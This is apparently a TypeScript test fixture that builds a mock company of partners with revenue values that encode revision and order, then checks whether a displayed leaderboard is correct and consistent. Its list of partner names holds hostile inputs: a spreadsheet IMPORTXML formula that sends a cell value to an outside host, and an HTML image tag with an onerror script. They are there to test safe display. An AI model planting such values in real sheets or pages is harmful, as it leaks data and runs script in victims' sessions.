import type { Random } from '../../workbench/random';
import type { Company } from '../../workbench/sandbox/sandbox';

/** A few, or so many that Journeybee lists no more of them in one answer. */
const sizes = { few: 12, many: 130 } as const;
const day = '2026-05-10';

/** Names as outsiders type them: what Sheets would read as something else, and what a page would. */
const names: readonly string[] = [
  '=IMPORTXML("https://example.org/"&A1,"//a")',
  '+49 30 901820',
  '@here',
  '-1',
  "'quoted",
  '2026-03',
  '1e3',
  'TRUE',
  '<img src=x onerror=alert(1)>',
  'شركة الشريك',
  '  spaces  ',
  'Ordinary & Sons',
];

/** What a block or a formula shows of a partner, or of a group's sum. */
export type ShownRow = readonly [rank: unknown, name: unknown, revenue: unknown];

/** A leaderboard that a block or a formula shows: which of the company's states it is of, and how many partners it lists. */
export interface Recognised {
  /** The oldest, where there are several. */
  readonly revision: number;
  readonly partners: number;
  /** Whether it is recognised only as one of several tiers, or of one with its sum. */
  readonly isInGroups: boolean;
}

/** What a revenue is made of: which place among all its partner takes, which partner it is, and of which revision. */
const numberUnit = 10_000;
const orderUnit = 1000 * numberUnit;

const isSum = ([rank, name]: ShownRow): boolean => rank === '' && /^Total /.test(String(name));
const numberOf = ([, , revenue]: ShownRow): number => Math.floor(Number(revenue) / numberUnit) % 1000;

const nameOf = (number: number): string => names[number] ?? `Partner ${number}`;

/**
 * A company of which every figure says when it was true: revenue is made of the partner's order, its number and the number
 * of times that the company has changed. So a table of two moments gives itself away.
 */
export class MarkedCompany {
  revision = 0;
  readonly #data: Company;
  readonly #random: Random;
  readonly #uuids: readonly string[];
  readonly #tiers: ReadonlyArray<string | null>;
  /** How many partners there are in each revision. */
  readonly #counts: number[] = [];

  constructor(data: Company, random: Random, size: keyof typeof sizes) {
    this.#data = data;
    this.#random = random;
    data.partners.splice(sizes[size]);
    data.deals.length = 0;
    data.leads.length = 0;
    for (const [index, partner] of data.partners.entries()) {
      partner.name = nameOf(index);
      partner.type = 'reseller';
      partner.tier = data.tiers[index % (data.tiers.length + 1)] ?? null;
    }
    this.#tiers = data.partners.map(({ tier }) => tier?.label ?? null);
    this.#uuids = data.partners.map(({ uuid }) => uuid);
    this.#show();
  }

  /** Other figures, another order, more partners or fewer. */
  change(): void {
    this.revision += 1;
    this.#show();
  }

  /** How many partners a report shows in a revision: so many rows, of each tier where it is in groups. */
  shownIn(revision: number, rows: number, inGroups: boolean): number {
    if (!inGroups) return Math.min(rows, this.#counts[revision] ?? 0);
    return this.tiersIn(revision).reduce((sum, { partners }) => sum + Math.min(rows, partners), 0);
  }

  /** How many partners of each tier there are in a revision, and without one. */
  tiersIn(revision: number): Array<{ readonly partners: number }> {
    const tiers = this.#tiers.slice(0, this.#counts[revision] ?? 0);
    return [...new Set(tiers)].map((tier) => ({ partners: tiers.filter((other) => other === tier).length }));
  }

  #show(): void {
    const all = this.#uuids.length;
    const count = this.#random.integer(all > sizes.few ? 90 : 1, all);
    this.#counts[this.revision] = count;
    const order = this.#random.shuffled(Array.from({ length: count }, (_, place) => place + 1));
    this.#data.deals.length = 0;
    for (const [number, uuid] of this.#uuids.slice(0, count).entries()) {
      const value = (order[number] ?? 0) * orderUnit + number * numberUnit + this.revision;
      this.#data.addDeal({ partnerUuid: uuid, value, createdDay: day, status: 'won', closedDay: day });
    }
  }

  /**
   * What rows of rank, name and revenue show, or why they are no leaderboard of one moment. `gathered`: they come from several
   * answers, between which the company may have changed.
   */
  recognise(rows: readonly ShownRow[], gathered: boolean): Recognised | string {
    const partners = rows.filter((row) => !isSum(row));
    const revisions = partners.map(([, , revenue]) =>
      typeof revenue === 'number' ? revenue % numberUnit : Number.NaN,
    );
    const oldest = partners.length === 0 ? this.revision : Math.min(...revisions);
    const newest = Math.max(oldest, ...revisions);
    if (!(oldest >= 0 && newest <= this.revision))
      return `revenues of ${partners
        .slice(0, 5)
        .map(([, , revenue]) => String(revenue))
        .join(', ')}`;
    if (oldest !== newest && !gathered) return `rows of revisions ${[...new Set(revisions)].join(' and ')}`;
    const recognised = { revision: oldest, partners: partners.length };
    const wrong = wrongNames(partners) ?? wrongRanks(rows);
    if (wrong === null) return { ...recognised, isInGroups: false };
    return wrongNames(partners) === null && this.#areGroups(rows) ? { ...recognised, isInGroups: true } : wrong;
  }

  /** Whether these are the partners of one tier after the other, each ranked by itself, with a sum below each or below none. */
  #areGroups(rows: readonly ShownRow[]): boolean {
    const groups: Array<{ readonly tier: string | null; readonly members: ShownRow[]; sum: ShownRow | null }> = [];
    for (const row of rows) {
      const last = groups[groups.length - 1];
      const tier = this.#tiers[numberOf(row)] ?? null;
      if (isSum(row)) {
        if (!last || last.sum) return false;
        last.sum = row;
      } else if (last?.tier === tier && !last.sum) last.members.push(row);
      else groups.push({ tier, members: [row], sum: null });
    }
    const sums = groups.filter(({ sum }) => sum !== null).length;
    return (
      new Set(groups.map(({ tier }) => tier)).size === groups.length &&
      (sums === 0 || sums === groups.length) &&
      groups.every(({ tier, members, sum }) => {
        const isRight = sum?.[1] === `Total ${tier ?? 'without tier'}` && sum[2] === MarkedCompany.sum(members);
        return wrongRanks(members) === null && (sum === null || isRight);
      })
    );
  }

  /** The sum over partners, as totals have it. */
  static sum(rows: readonly ShownRow[]): number {
    return rows.reduce((sum, row) => sum + (isSum(row) ? 0 : Number(row[2])), 0);
  }
}

function wrongNames(rows: readonly ShownRow[]): string | null {
  const seen = new Set<unknown>();
  for (const row of rows) {
    const [, name] = row;
    const partner = nameOf(numberOf(row));
    // Cells have single spaces, and none at either end.
    if (name !== partner.trim().replace(/ +/g, ' ')) return `${String(name)} with the revenue of ${partner}`;
    if (seen.has(name)) return `${partner} twice`;
    seen.add(name);
  }
  return null;
}

function wrongRanks(rows: readonly ShownRow[]): string | null {
  for (const [place, [rank, , revenue]] of rows.entries()) {
    if (rank !== place + 1) return `rank ${String(rank)} in place ${place + 1}`;
    if (place > 0 && Number(rows[place - 1]?.[2]) <= Number(revenue))
      return `rank ${String(rank)} below a lower revenue`;
  }
  return null;
}
